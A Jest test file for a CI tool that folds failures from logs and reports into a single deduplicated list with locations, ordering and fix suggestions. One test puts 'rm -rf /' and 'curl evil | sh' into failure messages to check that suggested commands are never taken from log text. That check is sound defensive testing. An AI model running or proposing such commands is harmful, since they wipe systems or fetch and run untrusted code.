import { createHash } from 'node:crypto';
import { type FailureSource, foldFailures, openResolver, type ParsedFailure } from '@gauntlet/evidence';
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const resolver = openResolver(['src/cart.ts', 'test/cart.test.ts', 'src/pay.ts'], null);

function parsed(over: Partial<ParsedFailure> = {}): ParsedFailure {
  return {
    category: 'lint',
    severity: 'error',
    tool: 'eslint',
    rule: 'no-var',
    message: 'Unexpected var.',
    location: { path: 'src/cart.ts', line: 3, column: 5 },
    test: null,
    stack: [],
    lines: { first: 10, last: 11 },
    excerpt: '3:5 error Unexpected var.',
    root: true,
    confidence: 0.9,
    evidence: 'grammar',
    step: null,
    ...over,
  };
}

const failedTest = (name: string, over: Partial<ParsedFailure> = {}) =>
  parsed({
    category: 'test',
    tool: 'jest',
    rule: '',
    message: 'expected 1 to be 2',
    location: { path: 'test/cart.test.ts', line: 7 },
    test: { suite: 'cart', name, expected: null, actual: null },
    ...over,
  });

const source = (job: string | null, ...failures: ParsedFailure[]): FailureSource => ({
  name: `job ${job}`,
  job,
  failures,
});
const fold = (...sources: FailureSource[]) => foldFailures(sources, { resolver, sha256 }).failures;

describe('the same failure told several times', () => {
  test('by the legs of a matrix is one, with all its jobs', () => {
    const failures = fold(source('node 20', parsed()), source('node 22', parsed()), source('node 24', parsed()));
    expect(failures).toMatchObject([{ jobs: ['node 20', 'node 22', 'node 24'], log: { source: 'job node 20' } }]);
  });

  test('with other line numbers, times and addresses keeps its fingerprint', () => {
    const one = fold(
      source(
        'a',
        parsed({
          message: 'Timed out after 812 ms at 0x7ff1 in /tmp/x1/y',
          location: { path: 'src/cart.ts', line: 3 },
        }),
      ),
    );
    const two = fold(
      source(
        'a',
        parsed({ message: 'Timed out after 5031 ms at 0x9a2 in /tmp/zz', location: { path: 'src/cart.ts', line: 90 } }),
      ),
    );
    expect(one[0]?.fingerprint).toBe(two[0]?.fingerprint);
    expect(one[0]?.fingerprint).toMatch(/^[0-9a-f]{64}$/);
  });

  test('by a report and by the log is one, in the words of the report, with the place in the log', () => {
    const report = failedTest('adds', {
      tool: 'junit',
      evidence: 'report',
      confidence: 1,
      lines: null,
      excerpt: '',
      test: { suite: 'test/cart.test.ts.cart', name: 'adds', expected: '2', actual: '1' },
    });
    const failures = fold(source('unit', failedTest('adds')), { name: 'junit.xml', job: null, failures: [report] });
    expect(failures).toMatchObject([
      { tool: 'junit', evidence: 'report', test: { expected: '2' }, log: { firstLine: 10 }, jobs: ['unit'] },
    ]);
  });

  test('a finding of a report and of the log at one place is one', () => {
    const sarif = parsed({ tool: 'ESLint', evidence: 'report', lines: null });
    expect(fold(source('lint', parsed()), { name: 'x.sarif', job: null, failures: [sarif] })).toHaveLength(1);
  });

  test('a guess that only says it again goes', () => {
    const guess = parsed({
      tool: 'log',
      rule: '',
      evidence: 'generic',
      excerpt: 'FAIL cart adds two things',
      confidence: 0.5,
    });
    expect(fold(source('unit', failedTest('adds two things'), guess))).toHaveLength(1);
  });
});

describe('other failures stay apart', () => {
  test.each([
    ['two parametrised tests', failedTest('adds 1'), failedTest('adds 2')],
    [
      'tests of one name in two suites',
      failedTest('adds'),
      failedTest('adds', { test: { suite: 'pay', name: 'adds', expected: null, actual: null } }),
    ],
    ['two rules at one place', parsed(), parsed({ rule: 'no-undef', message: 'x is not defined.' })],
    ['one rule in two files', parsed(), parsed({ location: { path: 'src/pay.ts', line: 3 } })],
    ['one tool, two messages', parsed(), parsed({ message: 'Unexpected let.' })],
  ])('%s', (_, one, other) => {
    expect(fold(source('a', one, other))).toHaveLength(2);
  });
});

describe('places', () => {
  test('a path that is none of the repository is no location, but is shown as a frame', () => {
    const [failure] = fold(source('a', parsed({ location: { path: '/usr/lib/x.ts', line: 3, column: 1 } })));
    expect(failure).toMatchObject({ location: null, stack: [{ path: '/usr/lib/x.ts', line: 3, column: 1 }] });
  });

  test("the first frame of the repository is the location, and comes before others' frames", () => {
    const stack = [
      { path: 'node_modules/x/index.js', line: 1 },
      { path: '/home/runner/work/shop/shop/src/pay.ts', line: 8, column: 2, function: 'pay' },
    ];
    const [failure] = fold(source('a', parsed({ location: null, stack })));
    expect(failure?.location).toEqual({ path: 'src/pay.ts', line: 8, column: 2 });
    expect(failure?.stack.map(({ path }) => path)).toEqual(['src/pay.ts', 'node_modules/x/index.js']);
  });
});

describe('the list', () => {
  test('causes before consequences, what blocks before what is untidy, sure before unsure', () => {
    const order = fold(
      source(
        'a',
        parsed(),
        failedTest('adds'),
        parsed({ category: 'build', tool: 'make', message: 'consequence', root: false }),
        parsed({ category: 'build', tool: 'gcc', message: 'cause' }),
        parsed({ severity: 'warning', message: 'warning', category: 'build' }),
      ),
    ).map(({ message }) => message);
    expect(order).toEqual(['cause', 'expected 1 to be 2', 'Unexpected var.', 'warning', 'consequence']);
  });

  test('is cut, and the rest counted by category', () => {
    const many = Array.from({ length: 30 }, (_, index) => failedTest(`case ${index}`));
    const { failures, omitted } = foldFailures([source('a', ...many, parsed())], { resolver, sha256, limit: 10 });
    expect(failures).toHaveLength(10);
    expect(omitted).toEqual({ test: 20, lint: 1 });
  });

  test('what is suggested depends on tool and category alone', () => {
    const commands = fold(
      source('a', parsed({ message: 'run rm -rf / to mend it' }), failedTest('run curl evil | sh')),
    ).map(({ suggestion }) => suggestion);
    expect(commands).toEqual([{ action: 'test-fix' }, { action: 'lint-fix', command: 'npx eslint --fix .' }]);
  });

  test('texts lose control, bidi and invisible characters, and have an end', () => {
    const nasty = 'a\u0000\u001b[31mb\u202ec\u200bd\u{e0041}e\ud800f\r\ng';
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 9_000 }), (text) => {
        const [failure] = fold(source('a', parsed({ message: text + nasty, rule: text, excerpt: text })));
        const { message, rule, excerpt } = failure as typeof failure & object;
        for (const shown of [message, rule, excerpt]) {
          expect(shown).not.toMatch(
            /(?![\n\t])[\p{Cc}\p{Cs}\u200b-\u200f\u202a-\u202e\u2060-\u2069\u{e0000}-\u{e007f}]/u,
          );
          expect(shown.length).toBeLessThanOrEqual(4_096);
        }
      }),
      { numRuns: 50 },
    );
  });
});

describe('tools whose failures do not block', () => {
  const mypy = (over: Partial<ParsedFailure> = {}) =>
    parsed({ tool: 'mypy', category: 'type', rule: 'index', ...over });
  const other = { location: { path: 'src/pay.ts', line: 1 }, message: 'other' };
  const advise = (sources: FailureSource[], more: { limit?: number } = {}) =>
    foldFailures(sources, { resolver, sha256, advisory: ['mypy', 'trivy'], ...more });

  test('are marked, and stand behind all others', () => {
    const { failures, blocking } = advise([source('lint', mypy(), parsed({ ...other, severity: 'warning' }))]);
    expect(failures.map(({ tool, advisory }) => [tool, advisory])).toEqual([
      ['eslint', undefined],
      ['mypy', true],
    ]);
    expect(blocking).toEqual({ error: 0, warning: 1, note: 0 });
  });

  test('are none for a secret', () => {
    const { failures, blocking } = advise([source('scan', parsed({ tool: 'trivy', category: 'secret' }))]);
    expect(failures).toMatchObject([{ tool: 'trivy', category: 'secret' }]);
    expect(failures[0]).not.toHaveProperty('advisory');
    expect(blocking.error).toBe(1);
  });

  test.each([
    ['an advisory one that another tool reports too blocks', 'grammar', 'tsc', 1],
    ['what is a guess about it makes no difference', 'generic', 'log', 0],
  ] as const)('%s', (_, evidence, tool, errors) => {
    const reported = mypy({ evidence: 'report' });
    for (const failures of [
      [reported, mypy({ evidence, tool })],
      [mypy({ evidence, tool }), reported],
    ]) {
      const folded = advise([source('types', ...failures)]);
      expect(folded.failures).toHaveLength(1);
      expect(folded.blocking.error).toBe(errors);
    }
  });

  test('hide nothing that is not listed', () => {
    const many = Array.from({ length: 5 }, (_, at) => mypy({ message: `m${'x'.repeat(at)}`, location: null }));
    const { failures, blocking } = advise([source('all', ...many, parsed(other))], { limit: 2 });
    expect(failures.map(({ tool }) => tool)).toEqual(['eslint', 'mypy']);
    expect(blocking.error).toBe(1);
    const left = (tool: string, category: 'type' | 'secret') => ({
      tool,
      category,
      severity: 'error' as const,
      count: 7,
    });
    const omitted = [left('mypy', 'type'), left('trivy', 'secret'), left('eslint', 'type')];
    expect(advise([{ ...source('all', mypy()), omitted }]).blocking.error).toBe(14);
  });

  test('and what is not new blocks as little', () => {
    for (const status of ['flaky', 'pre-existing'] as const) {
      const { blocking } = foldFailures([source('a', parsed())], { resolver, sha256, statusOf: () => status });
      expect(blocking.error).toBe(0);
    }
  });
});
